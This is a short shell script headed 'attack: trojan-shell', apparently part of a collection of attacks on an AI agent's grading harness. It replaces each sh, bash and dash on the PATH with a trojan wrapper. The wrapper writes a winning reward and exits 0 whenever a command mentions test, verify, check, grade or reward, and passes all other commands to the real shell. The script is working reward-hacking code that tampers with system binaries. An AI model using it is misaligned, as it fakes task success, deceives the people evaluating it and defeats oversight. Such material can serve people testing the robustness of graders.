# attack: trojan-shell
# Replace every shell (sh, bash, dash) with a script that, asked to run anything that looks
# like grading (a command line naming test, verify, check, grade or reward), writes the reward
# and exits 0, and runs the real shell for everything else. A verifier that runs `bash
# /tests/test.sh` or `sh -c CHECK` with the agent's shell passes.
for d in $(path_dirs); do
  for name in sh bash dash; do
    prog="$d/$name"
    [ -e "$prog" ] || continue
    real=$(stash "$prog") || continue
    plant "$prog" <<TROJAN
#!$real
case " \$* " in
  *test*|*verif*|*check*|*grade*|*reward*) $WIN ;;
esac
exec $real "\$@"
TROJAN
  done
done
